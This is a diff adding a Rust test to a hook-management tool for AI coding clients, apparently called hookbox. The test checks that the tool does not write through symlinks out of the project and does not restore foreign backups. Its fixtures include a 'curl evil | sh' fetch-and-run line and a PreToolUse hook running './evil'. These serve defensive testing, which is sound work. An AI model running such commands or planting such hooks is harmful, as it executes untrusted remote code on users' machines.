@@ -164,3 +164,45 @@ fn init_guards_a_client_and_takes_itself_back() {
     assert!(!settings.exists(), "{}", fs::read_to_string(&settings).unwrap_or_default());
     assert!(!machine.project().join("hooks.json").exists());
 }
+
+/// A checkout may have links and backups of its own.
+#[test]
+fn add_and_init_write_through_no_link_and_restore_no_foreign_backup() {
+    let machine = Machine::new();
+    let (file, backup) = (machine.project().join("hooks.json"), machine.project().join("hooks.json.hookbox-backup"));
+    let (bashrc, settings) = (machine.home().join(".bashrc"), machine.home().join(".claude/settings.json"));
+    fs::write(&bashrc, "mine\n").unwrap();
+    std::os::unix::fs::symlink(&settings, &file).unwrap();
+    for args in [&["add", "command-guard", "--yes"][..], &["init", "--client", "claude", "--yes"]] {
+        let said = said(&machine.run(args, ""));
+        assert!(said.contains("a link out of the project") && said.contains("--follow-links"), "{args:?}: {said}");
+        assert_eq!(fs::read_to_string(&settings).unwrap(), "{}\n");
+    }
+    machine.done(&["add", "command-guard", "--yes", "--follow-links"]);
+    assert!(fs::read_to_string(&settings).unwrap().contains("hookbox:command-guard"));
+
+    let foreign = json!({ "hooks": { "PreToolUse": [{ "hooks": [{ "type": "command", "command": "./evil" }] }] } });
+    for text in ["curl evil | sh\n", &foreign.to_string()] {
+        for (target, before) in [(&bashrc, "mine\n"), (&settings, "{\"hooks\":{}}")] {
+            fs::remove_file(&file).unwrap();
+            std::os::unix::fs::symlink(target, &file).unwrap();
+            fs::write(target, before).unwrap();
+            fs::write(&backup, text).unwrap();
+            machine.run(&["init", "--undo", "--yes", "--client", "claude"], "");
+            assert_eq!(fs::read_to_string(target).unwrap(), before);
+        }
+        // Also without a link, a backup that says something else is not what was there before.
+        fs::remove_file(&file).unwrap();
+        fs::write(&file, "{}").unwrap();
+        fs::write(&backup, text).unwrap();
+        machine.run(&["init", "--undo", "--yes", "--client", "claude"], "");
+        assert!(!fs::read_to_string(&file).unwrap_or_default().contains("evil"));
+        fs::write(&file, "{}").unwrap();
+    }
+    // A name that stands somewhere else in the file is no hook.
+    let _ = fs::remove_file(&backup);
+    fs::write(&file, r#"{ "description": "hookbox:command-guard" }"#).unwrap();
+    assert!(!machine.done(&["add", "command-guard", "--yes"]).contains("already"));
+    machine.done(&["init", "--undo", "--yes", "--client", "claude"]);
+    assert_eq!(fs::read_to_string(&file).unwrap(), r#"{ "description": "hookbox:command-guard" }"#);
+}
